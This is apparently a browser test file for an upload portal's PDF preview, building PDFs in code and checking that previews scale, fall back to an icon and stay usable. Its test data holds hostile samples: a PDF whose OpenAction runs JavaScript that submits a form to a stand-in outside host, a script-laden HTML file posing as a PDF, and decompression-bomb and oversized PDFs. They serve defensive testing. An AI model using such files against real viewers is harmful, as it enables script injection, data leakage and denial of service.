import { deflateSync } from 'node:zlib';
import type { Page } from 'playwright';
import { describe, expect, it } from 'vitest';
import { sharedBrowser } from '../support/browser/browser.ts';
import { sandboxSite } from '../support/browser/site.ts';
import { choose, filePayload, openSlimUpload, waitUntilSent } from '../support/browser/supplementPages.ts';

interface PdfParts {
  /** Drawing operators of the only page, for example `BT /F1 36 Tf 72 700 Td (Total) Tj ET`. */
  readonly content?: string;
  /** Left, bottom, right and top of the page, in points. @default US letter */
  readonly mediaBox?: string;
  /** Entries of the catalogue, for example `/OpenAction<<…>>`. @default none */
  readonly catalogue?: string;
  /** Entries of the trailer. @default none */
  readonly trailer?: string;
}

/** Creates a PDF with one page. `F1` is Helvetica, which the file does not contain. */
function aPdf({
  content = '',
  mediaBox = '0 0 612 792',
  catalogue = '',
  trailer = '',
}: PdfParts = {}): Buffer {
  const packed = deflateSync(Buffer.from(content, 'latin1'));
  const objects = [
    Buffer.from(`<</Type/Catalog/Pages 2 0 R${catalogue}>>`),
    Buffer.from('<</Type/Pages/Kids[3 0 R]/Count 1>>'),
    Buffer.from(
      `<</Type/Page/Parent 2 0 R/MediaBox[${mediaBox}]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>`,
    ),
    Buffer.concat([
      Buffer.from(`<</Length ${packed.length}/Filter/FlateDecode>>stream\n`),
      packed,
      Buffer.from('\nendstream'),
    ]),
    Buffer.from('<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'),
  ];
  const parts = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let offset = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    offset += part.length;
    parts.push(part);
  }
  const rows = offsets.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${offset}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** An invoice with readable text. */
const anInvoice = aPdf({
  content:
    '0.07 0.22 0.36 rg 60 690 492 50 re f 0 g BT /F1 28 Tf 72 620 Td (Invoice 4711) Tj 0 -60 Td (Total 1,284.40) Tj ET',
});

const anEncryptedPdf = aPdf({
  content: 'BT /F1 36 Tf 72 700 Td (Secret) Tj ET',
  trailer: `/Encrypt<</Filter/Standard/V 1/R 2/O(${'0'.repeat(32)})/U(${'1'.repeat(32)})/P -4>>/ID[<00><00>]`,
});

const browser = sharedBrowser();
const site = sandboxSite(['supplement-desk']);
const viewport = { width: 1280, height: 900 };

const pdf = (name: string, bytes: Uint8Array | string) => filePayload(name, bytes, 'application/pdf');
const attack = 'window.alarm = true; app.alert(1); this.submitForm("https://elsewhere.test/")';
const shape = '1 0 0 rg 72 72 300 300 re f';

async function sizeOfPicture(page: Page) {
  const picture = page.locator('.up-view--pdf .up-view-box > img');
  await picture.waitFor();
  return picture.evaluate(async (element: HTMLImageElement) => {
    await element.decode();
    return [element.naturalWidth, element.naturalHeight];
  });
}

describe('preview of a PDF', () => {
  it('shows the first page, as does the thumbnail in the list [SUP-UP-29]', async () => {
    const watched = await browser.open({ origin: site.url, viewport });
    const { page } = watched;
    await openSlimUpload(page);
    await choose(page, [pdf('invoice.pdf', anInvoice), pdf('bill.pdf', await page.pdf())]);
    await waitUntilSent(page, 2);
    expect(await sizeOfPicture(page)).toEqual([expect.any(Number), 1200]);
    await expect.poll(() => page.locator('.file-picture img').count()).toBe(2);
    expect(await page.locator('.up-thumb img:not(.up-kind)').count()).toBe(2);
    expect([watched.cspViolations, watched.foreignRequests, watched.consoleErrors]).toEqual([[], [], []]);
  });

  it.each([
    ['a page of 28 km', aPdf({ content: '0 0 40000000 40000000 re f', mediaBox: '0 0 80000000 80000000' })],
    [
      'scripts and links',
      aPdf({
        content: shape,
        catalogue: `/OpenAction<</S/JavaScript/JS(${attack})>>/AA<</WC<</S/URI/URI(https://elsewhere.test/)>>>>`,
      }),
    ],
  ])('is scaled down and runs no script if the file has %s [SUP-UP-29] [trust T15]', async (_, bytes) => {
    const watched = await browser.open({ origin: site.url, viewport });
    const { page } = watched;
    await openSlimUpload(page);
    await choose(page, [pdf('hostile.pdf', bytes)]);
    expect(Math.max(...(await sizeOfPicture(page)))).toBe(1200);
    expect(await page.evaluate(() => 'alarm' in window)).toBe(false);
    expect([watched.cspViolations, watched.foreignRequests]).toEqual([[], []]);
  });

  it.each([
    ['encrypted', anEncryptedPdf],
    ['no PDF', '<html><script>alert(1)</script>'],
    ['cut off', anInvoice.subarray(0, 200)],
    ['without content', aPdf()],
    ['a line of 1 × 100,000 points', aPdf({ content: shape, mediaBox: '0 0 1 100000' })],
    ['400 MB when it is unpacked', aPdf({ content: ' '.repeat(400_000_000) })],
    ['three million shapes', aPdf({ content: '0 0 m 600 700 l 10 600 l 300 20 l f\n'.repeat(3_000_000) })],
  ])('is an icon if the PDF is %s, and the portal stays usable [SUP-UP-29] [trust T15]', async (_, bytes) => {
    const watched = await browser.open({ origin: site.url, viewport });
    const { page } = watched;
    await openSlimUpload(page);
    await choose(page, [pdf('odd.pdf', bytes)]);
    await waitUntilSent(page, 1);
    await page.getByLabel('Note for the adjuster').fill('Still here.', { timeout: 2_000 });
    await page.getByText('We can’t show this file here, but it was sent.').waitFor({ timeout: 30_000 });
    await choose(page, [pdf('next.pdf', anInvoice)]);
    await page.locator('.file', { hasText: 'next.pdf' }).locator('img').waitFor();
    expect([watched.cspViolations, watched.foreignRequests]).toEqual([[], []]);
  });
});
